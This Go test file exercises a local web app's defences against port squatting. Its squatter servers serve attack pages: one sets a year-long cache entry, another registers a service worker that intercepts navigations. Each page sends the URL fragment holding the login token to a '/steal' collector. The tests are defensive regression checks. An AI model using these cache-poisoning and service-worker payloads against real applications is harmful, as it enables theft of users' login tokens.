package webapp_test

import (
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/securejingle/securejingle/internal/browsertest"
	"github.com/securejingle/securejingle/internal/webapp"
)

// loggedInJS waits until the app's page is logged in.
const loggedInJS = `new Promise(r => { const f = () => document.body && document.body.dataset.login === "ok" ? r(true) : setTimeout(f, 50); f(); })`

// realDaemonAfterSquat starts the real web app on the squatted port (the
// squatter gone), opens a fresh login link in a new tab and checks that
// the real page, not the squatter's, answered it: it logs in, and the
// collector got nothing.
func realDaemonAfterSquat(t *testing.T, b *browsertest.Browser, appHost string, stolen chan string, path string) {
	t.Helper()
	srv, err := webapp.New(webapp.Config{Listen: appHost, API: http.NotFoundHandler(), Account: "alice@example.org"})
	if err != nil {
		t.Fatal(err)
	}
	go srv.Serve()
	t.Cleanup(func() { srv.Close() })
	link, _ := srv.LoginURL()
	link = strings.Replace(link, "/#token=", path+"#token=", 1)
	tab := b.NewTab()
	browsertest.Open(t, tab, link)
	if _, err := browsertest.Eval[bool](tab, loggedInJS, 10*time.Second); err != nil {
		select {
		case h := <-stolen:
			t.Fatalf("the squatter's page answered the login link on %s and sent %q", srv.Origin(), h)
		default:
		}
		t.Fatalf("the real page did not log in: %v", err)
	}
	select {
	case h := <-stolen:
		t.Fatalf("the squatter's page ran on the app's origin and sent %q", h)
	default:
	}
}

// TestBrowserPortSquatCachePoisoning (review rvweb3 F1): another local
// user holds the app's port while the daemon is down, gets the browser
// to load it once (a page of theirs on another port navigates there) and
// plants a long-lived HTTP cache entry for "/". The real daemon, back on
// the port, serves a new origin (a random name under .localhost): its
// login link is answered by the real page, not from the cache, and the
// token stays the user's.
func TestBrowserPortSquatCachePoisoning(t *testing.T) {
	b := browsertest.Start(t, nil)
	stolen := make(chan string, 4)
	collector := browsertest.Serve(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/steal":
			stolen <- r.URL.Query().Get("h")
		case "/go":
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprintf(w, `<script>location = %q</script>`, "http://"+r.URL.Query().Get("to")+"/")
		}
	}))
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	appHost := l.Addr().String()
	squat := &httptest.Server{Listener: l, Config: &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		w.Header().Set("Cache-Control", "public, max-age=31536000, immutable")
		fmt.Fprintf(w, `<!doctype html><title>securejingle</title><p id=evil>evil</p><script>
fetch(%q + "/steal?h=" + encodeURIComponent(location.hash), {mode: "no-cors"});
</script>`, collector)
	})}}
	squat.Start()
	tab := b.NewTab()
	browsertest.Open(t, tab, collector+"/go?to="+appHost)
	if _, err := browsertest.Eval[bool](tab, `new Promise(r => { const f = () => document.getElementById("evil") ? r(true) : setTimeout(f, 50); f(); })`, 10*time.Second); err != nil {
		t.Fatalf("squatted page not loaded: %v", err)
	}
	<-stolen // the visit itself
	squat.Close()
	realDaemonAfterSquat(t, b, appHost, stolen, "/")
}

// TestBrowserPortSquatServiceWorker (review rvweb3 F1): the same squat
// with a service worker, registered from a same-site iframe of the
// squatter's page on another port, which would answer every later
// navigation of its origin. The real daemon's new origin is out of its
// scope, whatever the path.
func TestBrowserPortSquatServiceWorker(t *testing.T) {
	b := browsertest.Start(t, nil)
	stolen := make(chan string, 8)
	var appHost string
	collector := browsertest.Serve(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/steal":
			stolen <- r.URL.Query().Get("h")
		case "/":
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprintf(w, `<!doctype html><iframe src="http://%s/reg"></iframe>`, appHost)
		}
	}))
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	appHost = l.Addr().String()
	squat := &httptest.Server{Listener: l, Config: &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/reg":
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprintf(w, `<!doctype html><script>navigator.serviceWorker.register("/zz-sw.js", {scope: "/"}).then(r => navigator.serviceWorker.ready).then(() => fetch(%q + "/steal?h=registered", {mode: "no-cors"}))</script>`, collector)
		case "/zz-sw.js":
			w.Header().Set("Content-Type", "text/javascript")
			fmt.Fprintf(w, `self.addEventListener("install", e => self.skipWaiting());
self.addEventListener("activate", e => e.waitUntil(clients.claim()));
self.addEventListener("fetch", e => {
  if (e.request.mode !== "navigate") return;
  e.respondWith(new Response('<!doctype html><title>securejingle</title><script>fetch(%q + "/steal?h=" + encodeURIComponent(location.hash), {mode: "no-cors"})</script>', {headers: {"Content-Type": "text/html"}}));
});`, collector)
		}
	})}}
	squat.Start()
	tab := b.NewTab()
	browsertest.Open(t, tab, collector+"/")
	select {
	case h := <-stolen:
		if h != "registered" {
			t.Fatalf("got %q", h)
		}
	case <-time.After(15 * time.Second):
		t.Fatal("service worker not registered from the same-site iframe")
	}
	squat.Close()
	realDaemonAfterSquat(t, b, appHost, stolen, "/")
}

// TestBrowserLocalhostOrigin (review rvweb3 F1): the app's random
// .localhost origin is a secure context (camera, microphone, WebRTC), is
// what the page sees as its origin, and
// site for it; http://127.0.0.1:port/ is refused.
func TestBrowserLocalhostOrigin(t *testing.T) {
	b := browsertest.Start(t, nil)
	srv, err := webapp.New(webapp.Config{Listen: "127.0.0.1:0", API: http.NotFoundHandler(), Account: "alice@example.org"})
	if err != nil {
		t.Fatal(err)
	}
	go srv.Serve()
	t.Cleanup(func() { srv.Close() })
	link, _ := srv.LoginURL()
	tab := b.NewTab()
	browsertest.Open(t, tab, link)
	if _, err := browsertest.Eval[bool](tab, loggedInJS, 10*time.Second); err != nil {
		t.Fatalf("not logged in: %v", err)
	}
	got, err := browsertest.Eval[[]any](tab, `[isSecureContext, location.origin]`, 0)
	if err != nil {
		t.Fatal(err)
	}
	if got[0] != true || got[1] != srv.Origin() {
		t.Errorf("isSecureContext %v, origin %v: want a secure context on %s", got[0], got[1], srv.Origin())
	}
	// The predictable origin of the port no longer serves the app.
	tab2 := b.NewTab()
	browsertest.Open(t, tab2, "http://"+srv.Addr().String()+"/")
	text, err := browsertest.Eval[string](tab2, `document.body ? document.body.innerText : ""`, 0)
	if err != nil || !strings.Contains(text, "does not answer for this host name") || strings.Contains(text, srv.Host()) {
		t.Errorf("http://%s/ answered %q (%v): want the Host refusal", srv.Addr(), text, err)
	}
}
